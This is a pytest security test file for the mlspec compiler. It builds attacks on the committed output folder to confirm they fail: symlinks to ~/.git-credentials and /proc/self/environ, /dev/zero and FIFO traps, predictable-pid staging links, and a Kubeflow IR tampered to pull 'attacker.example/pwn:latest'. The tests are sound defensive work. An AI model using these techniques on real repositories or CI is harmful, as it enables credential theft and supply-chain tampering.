"""The output folder (generated/) is committed, so a pull request controls what is in it:
links, FIFOs, links named like mlspec's own temporary folders or lock file, and tampered
files. mlspec follows none of them, reads nothing but regular files (and those only up to
a size), writes only inside the output folder, and `compile --check` judges the tree by
compiling the spec afresh, never by what the tree itself says."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import run_mlspec
from support.trees import tree_state

SECRET = "SECRETTOKEN"
DAG = "web-events/airflow/dags/web_events__ingest_page_views.py"


@pytest.fixture
def compiled(project: Path) -> Path:
    """The project with `mlspec compile specs/minimal.yaml` done and the result kept."""
    run_mlspec("compile", "specs/minimal.yaml", cwd=project, check=True)
    return project


def _compile(project: Path, *args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "mlspec", "compile", "specs/minimal.yaml", *args], cwd=project,
                          capture_output=True, text=True, timeout=timeout, env={**os.environ, "NO_COLOR": "1"})


@pytest.mark.parametrize("mode", ["--check", "--diff"])
def test_a_generated_file_linked_to_a_secret_is_shown_changed_but_never_printed(compiled, outside, mode):
    """Attack: replace a generated DAG by a link to ~/.git-credentials (or
    /proc/self/environ): `compile --check` and `--diff` print the unified diff of the old
    content, i.e. the secret, into the CI log."""
    dag = compiled / "generated" / DAG
    dag.unlink()
    dag.symlink_to(outside / "credentials")
    environ = compiled / "generated/web-events/great_expectations/page_views.json"
    environ.unlink()
    environ.symlink_to("/proc/self/environ")

    result = _compile(compiled, mode)

    output = result.stdout + result.stderr
    assert SECRET not in output and "CI_TOKEN" not in output
    assert "symbolic link: not a file mlspec wrote; not read" in result.stdout
    assert (result.returncode == 1) == (mode == "--check"), output
    if mode == "--check":
        assert "generated is stale for: web-events" in result.stderr


def test_diff_shows_a_linked_generated_file_as_changed_without_reading_it(compiled, outside):
    """Attack: the same link, read by `mlspec diff` (the pull-request comment)."""
    dag = compiled / "generated" / DAG
    dag.unlink()
    dag.symlink_to(outside / "credentials")

    result = run_mlspec("diff", "specs/minimal.yaml", "--format", "markdown", cwd=compiled)

    assert result.returncode == 0, result.stderr
    assert SECRET not in result.stdout
    assert "web_events__ingest_page_views.py</code> (changed)" in result.stdout


def test_a_generated_file_linked_to_dev_zero_or_a_fifo_is_replaced_without_hanging(compiled):
    """Attack: a link to /dev/zero (reading never ends: memory is exhausted) and a FIFO
    (opening it blocks, while the compile holds the output lock) in generated/<system>/.
    The compile replaces both and the check passes afterwards."""
    dag = compiled / "generated" / DAG
    dag.unlink()
    dag.symlink_to("/dev/zero")
    fifo = compiled / "generated/web-events/great_expectations/page_views.json"
    fifo.unlink()
    os.mkfifo(fifo)

    check = _compile(compiled, "--check", timeout=120)
    assert check.returncode == 1 and "(FIFO: not a file mlspec wrote; not read)" in check.stdout
    written = _compile(compiled, timeout=120)
    assert written.returncode == 0, written.stderr
    assert not dag.is_symlink() and dag.is_file() and fifo.is_file()
    assert _compile(compiled, "--check", timeout=120).returncode == 0


def test_a_huge_generated_file_is_not_read(compiled):
    """Attack: a sparse 100 GB file in place of a generated file: reading it to compare
    takes the machine's memory. Files over the cap are foreign: replaced, never read."""
    big = compiled / "generated" / DAG
    with open(big, "r+b") as handle:
        handle.truncate(100 * 1024**3)

    check = _compile(compiled, "--check", timeout=120)
    assert check.returncode == 1 and "a file of 107374182400 bytes" in check.stdout
    assert _compile(compiled, timeout=120).returncode == 0
    assert big.stat().st_size < 1024**2


def _next_pids(count: int) -> range:
    last = int(Path("/proc/sys/kernel/ns_last_pid").read_text())
    return range(last + 1, last + 1 + count)


@pytest.mark.skipif(not Path("/proc/sys/kernel/ns_last_pid").exists(), reason="needs Linux's pid counter")
def test_committed_links_named_like_the_staging_folder_cannot_redirect_the_output(compiled, outside):
    """Attack: commit links `generated/.mlspec-new-<system>.<pid>` -> a folder outside, for
    the pids the next CI compile will get (they are predictable in a fresh container):
    the compile writes the whole new tree through the link, outside the repository. The
    staging folder now has a random name created exclusively, and links left under mlspec's
    prefixes are removed unfollowed."""
    before = tree_state(outside)
    for pid in _next_pids(3000):
        (compiled / f"generated/.mlspec-new-web-events.{pid}").symlink_to(outside)
        (compiled / f"generated/.mlspec-old-web-events.{pid}").symlink_to(outside)
    spec = compiled / "specs/minimal.yaml"
    spec.write_text(spec.read_text().replace('"@daily"', '"@hourly"'))

    result = _compile(compiled)

    assert result.returncode == 0, result.stderr
    assert tree_state(outside) == before
    assert "'@hourly'" in (compiled / "generated" / DAG).read_text()
    assert not [p for p in (compiled / "generated").iterdir() if p.name.startswith(".mlspec-new-")]


def test_a_committed_lock_file_link_does_not_create_files_elsewhere(project, outside):
    """Attack: commit `generated/.mlspec.lock -> ~/.bashrc` (or a path that does not exist
    yet): opening the lock file for appending creates or opens the file it points at."""
    (project / "generated").mkdir()
    (project / "generated/.mlspec.lock").symlink_to(outside / "created-by-mlspec")
    (project / "generated/.gitignore").symlink_to(outside / "credentials")
    before = tree_state(outside)

    result = _compile(project)

    assert result.returncode == 0, result.stderr
    assert tree_state(outside) == before
    lock = project / "generated/.mlspec.lock"
    assert lock.is_file() and not lock.is_symlink()
    gitignore = project / "generated/.gitignore"
    assert not gitignore.is_symlink() and ".mlspec.lock" in gitignore.read_text()


def test_a_linked_system_folder_is_replaced_not_written_through(compiled, outside):
    """Attack: commit `generated/web-events -> ../../outside`: the compile swaps the new
    tree with the link target (or deletes files there)."""
    shutil.rmtree(compiled / "generated/web-events")
    (compiled / "generated/web-events").symlink_to(outside)
    before = tree_state(outside)

    check = _compile(compiled, "--check")
    assert check.returncode == 1 and SECRET not in check.stdout
    result = _compile(compiled)

    assert result.returncode == 0, result.stderr
    assert tree_state(outside) == before
    assert (compiled / "generated/web-events").is_dir() and not (compiled / "generated/web-events").is_symlink()
    assert _compile(compiled, "--check").returncode == 0


def test_a_linked_output_folder_is_refused(project, outside):
    """Attack: commit `generated -> /some/folder/outside`: every write of the compile lands
    outside the repository."""
    (project / "generated").symlink_to(outside)
    before = tree_state(outside)

    result = _compile(project)

    assert result.returncode == 3, result.stderr
    assert "symbolic link" in result.stderr and "nothing was written" in result.stderr
    assert tree_state(outside) == before


def test_a_tampered_pipeline_ir_that_keeps_its_source_hash_fails_the_check(project):
    """Attack: edit the compiled Kubeflow IR of a committed pipeline (another container
    image, another command) and keep its `source sha256` line. A compile reuses the IR on
    disk when that line matches, so `compile --check` compiled the tampered IR into its
    own verdict and said "up to date". A check now compiles without reading the tree."""
    run_mlspec("compile", "specs/customer-churn.yaml", cwd=project, env={"MLSPEC_NO_CACHE": "1"}, check=True)
    ir = project / "generated/customer-churn/kfp/churn_training.yaml"
    text = ir.read_text()
    assert "image: " in text
    tampered = text.replace("image: ", "image: attacker.example/pwn:latest # ", 1)
    ir.write_text(tampered)
    # the manifest records each file's hash: the attacker updates it too
    import hashlib
    manifest = project / "generated/customer-churn/manifest.json"
    manifest.write_text(manifest.read_text().replace(hashlib.sha256(text.encode()).hexdigest(),
                                                     hashlib.sha256(tampered.encode()).hexdigest()))

    result = run_mlspec("compile", "specs/customer-churn.yaml", "--check", cwd=project,
                        env={"MLSPEC_NO_CACHE": "1"})

    assert result.returncode == 1, result.stderr
    assert "attacker.example" in result.stdout and "generated is stale for: customer-churn" in result.stderr


def test_diff_does_not_read_through_a_linked_output_folder(project, outside):
    """Attack: `generated -> ~/some-folder` holding `web-events/...`: `mlspec diff` printed
    the files found there as the "old" side of its diff."""
    (outside / "web-events").mkdir()
    (outside / "web-events/manifest.json").write_text('{"token": "SECRETTOKEN"}\n')
    (project / "generated").symlink_to(outside)

    result = run_mlspec("diff", "specs/minimal.yaml", cwd=project)

    assert result.returncode == 0, result.stderr
    assert SECRET not in result.stdout and "symbolic link on the way to the output folder" in result.stdout
